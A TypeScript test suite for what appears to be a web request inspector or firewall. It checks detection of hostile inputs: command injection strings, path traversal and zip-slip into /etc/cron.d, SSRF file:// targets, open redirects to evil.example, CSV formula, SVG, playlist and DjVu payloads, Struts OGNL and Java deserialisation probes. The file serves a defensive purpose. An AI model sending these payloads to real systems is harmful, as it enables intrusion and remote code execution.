import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

const FORM = 'application/x-www-form-urlencoded'
const JSON_TYPE = 'application/json'

function rulesOf(target: string, type = '', body: string | Buffer = ''): readonly string[] {
  const { matches } = inspect({
    method: body === '' ? 'GET' : 'POST',
    target,
    headers: type === '' ? [] : ['content-type', type],
    ...(body !== '' && { body: Buffer.from(body) }),
  })
  return matches.filter(match => match.score >= 5).map(match => match.rule)
}

describe('what interfaces of management take', () => {
  test('a setting that loads what it points to, by its name in a form or in a pair of name and value', () => {
    const location = 'spring.cloud.bootstrap.location'
    assert.deepEqual(rulesOf('/refresh', FORM, `${location}=x`), ['java/setting-name'])
    assert.deepEqual(rulesOf('/refresh', JSON_TYPE, `{"name":"${location}","value":"x"}`), [
      'java/setting-name',
    ])
    // A ConfigMap.
    assert.deepEqual(rulesOf('/maps', JSON_TYPE, `{"data":{"${location}":"classpath:a.yml"}}`), [])
    assert.deepEqual(
      rulesOf('/refresh', JSON_TYPE, '{"name":"logging.config","value":"classpath:a.xml"}'),
      [],
    )
  })

  test('a program that a query starts', () => {
    assert.ok(rulesOf('/sse?transportType=stdio&command=touch').includes('rce/started-transport'))
    assert.deepEqual(rulesOf('/sse?transportType=sse&url=https://a.example/mcp'), [])
  })

  test('a bean that writes files, not one that is measured', () => {
    const call = (mbean: string): readonly string[] =>
      rulesOf('/j', JSON_TYPE, JSON.stringify({ type: 'exec', mbean, operation: 'x' }))
    assert.deepEqual(
      call('ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator'),
      ['java/managed-bean'],
    )
    assert.deepEqual(call('Tomcat:type=MBeanFactory'), ['java/managed-bean'])
    assert.deepEqual(call('java.lang:type=Memory'), [])
  })
})

describe('by the name of what it stands in', () => {
  const posted = (field: string, value: string): readonly string[] =>
    rulesOf('/', JSON_TYPE, JSON.stringify({ [field]: value }))

  test('steps out of a name, not the path of a part of a program', () => {
    for (const field of ['name', 'setting_value', 'file_name', 'theme'])
      assert.deepEqual(posted(field, '../../../../x'), ['traversal/steps-in-name'], field)
    for (const field of ['file', 'fileName', 'file_path'])
      assert.deepEqual(posted(field, '../x.jsp'), ['traversal/steps-in-name'], field)
    for (const [field, value] of [
      ['name', '../../../../node_modules/a/index.js'],
      ['file', '../x.php.md'],
      ['include', '../x.jsp'],
      ['extends', '../../../../base'],
      ['path', '../../../src/a'],
      ['name', '../../x'],
    ] as const)
      assert.deepEqual(posted(field, value), [], value)
  })

  test('a file of the server under the name of an address that is fetched', () => {
    assert.deepEqual(posted('clone_addr', 'file:///etc/'), [
      'traversal/system-folder-url',
      'ssrf/file-target',
    ])
    assert.deepEqual(posted('image_url', 'file:///srv/a'), ['ssrf/file-target'])
    assert.deepEqual(posted('documentUri', 'file:///home/ann/app.js'), [])
  })

  test('a host where the browser is sent, under a name that says so', () => {
    for (const target of [
      '/login?next=//evil.example',
      '/login?returnUrl=%0d/evil.example',
      '/o?redirect_uri=//evil.example/x',
    ])
      assert.ok(rulesOf(target).includes('ssrf/target-host'), target)
    for (const target of [
      '/login?next=/account',
      '/img?src=//cdn.example/a.png',
      '/login?next=https://a.example/',
    ])
      assert.deepEqual(rulesOf(target), [], target)
  })

  test('a quote behind the number of a page or a product', () => {
    assert.ok(rulesOf("/shop?cat=1'").includes('sqli/quote-probe'))
    assert.deepEqual(rulesOf("/shop?height=6'"), [])
  })
})

describe('files that harm whoever reads them', () => {
  const upload = (name: string, content: string): readonly string[] =>
    rulesOf(
      '/upload',
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\n\r\n${content}\r\n--b--\r\n`,
    )

  test('a table with a cell that starts a program, a playlist of files, a drawing that pipes, a framed file', () => {
    for (const [name, content] of [
      ['a.csv', "a,=cmd|' /C calc'!A0,b"],
      ['a.avi', '#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h|file:///etc/hosts\n'],
      ['a.svg', '<svg><image xlink:href="https://evil.example/x.jpg&quot;|id &quot;"/></svg>'],
      ['a.svg', '<svg><image xlink:href="msl:/tmp/x"/></svg>'],
      ['a.html', '<iframe src="file:///etc/hosts"></iframe>'],
      ["x${''.class}.png", 'x'],
    ] as const)
      assert.notDeepEqual(upload(name, content), [], `${name} ${content}`)
    for (const [name, content] of [
      ['a.csv', 'a,=SUM(A1:A9),"cmd | run!"'],
      ['a.m3u8', '#EXTM3U\n#EXTINF:10.0,\nhttps://a.example/1.ts\n'],
      ['a.svg', '<svg><image href="https://a.example/b.png?x=1&amp;y=2"/></svg>'],
      ['a.html', '<iframe src="https://www.youtube.com/embed/x"></iframe>'],
      ['${name}.png', 'x'],
    ] as const)
      assert.deepEqual(upload(name, content), [], `${name} ${content}`)
  })
})

describe('objects in other spellings', () => {
  test('an object of Java in hexadecimal, in either case and however long', () => {
    for (const hex of [
      'aced0005',
      'aced00057372001170',
      'ACED000573720011',
      `aced00057372${'6a'.repeat(900)}`,
    ])
      assert.ok(rulesOf(`/s?o=${hex}`).includes('deserialisation/java-hex'), hex)
    assert.deepEqual(rulesOf('/s?o=0aced0005737200'), [])
  })

  test('a member of Struts behind an underscore opens the rules about it', () => {
    assert.ok(
      rulesOf('/x.action?debug=command&expression=%23_memberAccess%5B%22a%22%5D%3Dtrue').includes(
        'java/runtime',
      ),
    )
  })

  test('an element whose name is to fill a buffer, in a document that does not end', () => {
    assert.ok(rulesOf('/agent', 'text/xml', `<a><value><${'A'.repeat(400)}`).includes('xxe/long-name'))
  })

  test('an archive whose head is not whole, by the name that it begins with', () => {
    const upload = (content: string): readonly string[] =>
      rulesOf(
        '/upload',
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="f"; filename="a.zip"\r\n\r\n${content}\r\n--b--\r\n`,
      )
    assert.ok(upload('PK\u0003\u0004../../etc/cron.d/x').includes('traversal/steps'))
    assert.deepEqual(upload('PK\u0003\u0004docs/../a.txt'), [])
    assert.deepEqual(upload('PK\u0003\u0004'), [])
  })

  test('a picture that is a document of another kind, with a call in its metadata', () => {
    const body =
      '--b\r\nContent-Disposition: form-data; name="f"; filename="x.jpg"\r\n\r\n' +
      'AT&TFORM\u0000\u0000DJVM(metadata (Copyright "\\\n" . qx{id} . \\\n" b ") )\r\n--b--\r\n'
    assert.ok(rulesOf('/upload', 'multipart/form-data; boundary=b', body).includes('code/perl-quoted'))
  })
})

describe('commands hung onto more than one word', () => {
  test('behind switches, behind another command, and behind a quote that is not opened again', () => {
    for (const value of [
      '--batch --no-tty;id',
      '|echo;echo YYY;id;echo YYY;echo|',
      '"; touch test #',
      '1|echo 1 > /www/a.txt',
    ])
      assert.notDeepEqual(rulesOf(`/s?v=${encodeURIComponent(value)}`), [], value)
    assert.notDeepEqual(rulesOf('/build', JSON_TYPE, '{"buildArgs":"-Dx=`touch /tmp/pwn`"}'), [])
    assert.deepEqual(rulesOf('/notes', JSON_TYPE, '{"notes":"set VERSION=`git describe` first"}'), [])
  })
})
